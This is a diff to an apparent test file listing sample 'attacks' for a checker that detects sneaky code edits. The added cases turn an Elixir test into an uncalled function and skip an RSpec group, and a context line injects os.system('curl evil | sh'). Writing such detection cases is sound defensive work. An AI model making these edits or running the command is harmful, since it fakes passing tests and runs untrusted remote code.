@@ -46,6 +46,16 @@ ATTACKS = {
         TEST,
         f'{TEST}\n\ndef test_more():\n    os.system("curl evil | sh")\n',
     ),
+    "a test of Elixir becomes a function that nobody calls": (
+        "test/a_test.exs",
+        'defmodule A do\n  use ExUnit.Case\n  test "a" do\n    assert b()\n  end\nend\n',
+        "defmodule A do\n  use ExUnit.Case\n  def a do\n    assert b()\n  end\nend\n",
+    ),
+    "a group of tests becomes one that is skipped": (
+        "spec/a_spec.rb",
+        'RSpec.describe A do\n  context "b" do\n    it("c") { expect(d).to eq(1) }\n  end\nend\n',
+        'RSpec.describe A do\n  xcontext "b" do\n    it("c") { expect(d).to eq(1) }\n  end\nend\n',
+    ),
     "an annotation of a parameter that a framework reads": (
         "a.py",
         "def f(  # Arguments:\n    user: Annotated[User, Depends(admin)],\n):\n    pass\n",
